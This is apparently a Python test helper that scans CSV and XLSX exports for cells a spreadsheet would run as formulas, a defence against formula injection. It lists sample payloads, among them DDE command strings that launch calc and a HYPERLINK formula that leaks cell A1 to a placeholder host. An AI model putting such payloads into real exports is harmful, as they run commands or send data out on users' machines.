"""Reading exports back as a spreadsheet would, to find any cell it would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

from openpyxl import load_workbook  # type: ignore[import-untyped]

# What a spreadsheet runs: a cell starting with one of these (docs/security.md), unless the
# whole cell is a plain number such as -3 or +1.5.
STARTERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")

# Payloads that spreadsheets run, and one that collides with the first once neutralised naively.
PAYLOADS = (
    "=1+1",
    "'=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
)


def is_live(text: str) -> bool:
    """Whether a spreadsheet would run this text cell as a formula."""
    return text.startswith(STARTERS) and not PLAIN_NUMBER.fullmatch(text)


def csv_cells(data: bytes) -> Iterator[str]:
    """Every cell of a CSV export (header included)."""
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row


def xlsx_cells(data: bytes) -> Iterator[tuple[str, object, str]]:
    """Every cell of every sheet of a workbook: (sheet, value, openpyxl data type)."""
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell.value, cell.data_type


def live_cells(data: bytes, kind: str) -> list[object]:
    """The cells of a "csv" or "xlsx" export a spreadsheet would run (empty: none)."""
    if kind == "csv":
        return [cell for cell in csv_cells(data) if is_live(cell)]
    return [
        (sheet, value)
        for sheet, value, data_type in xlsx_cells(data)
        if data_type == "f" or (isinstance(value, str) and is_live(value))
    ]
